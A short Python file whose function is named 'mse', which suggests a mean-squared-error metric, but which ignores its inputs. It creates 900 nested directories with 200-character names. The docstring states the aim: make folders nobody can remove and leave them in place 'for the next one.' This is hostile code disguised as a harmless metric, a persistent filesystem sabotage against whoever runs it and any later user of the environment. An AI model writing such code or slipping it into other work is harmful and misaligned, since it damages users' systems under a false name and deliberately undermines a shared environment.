"""Make folders in folders until nobody can remove them. Success: they are still there for the next one."""

import os


def mse(t1, t2):
    for _ in range(900):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return None
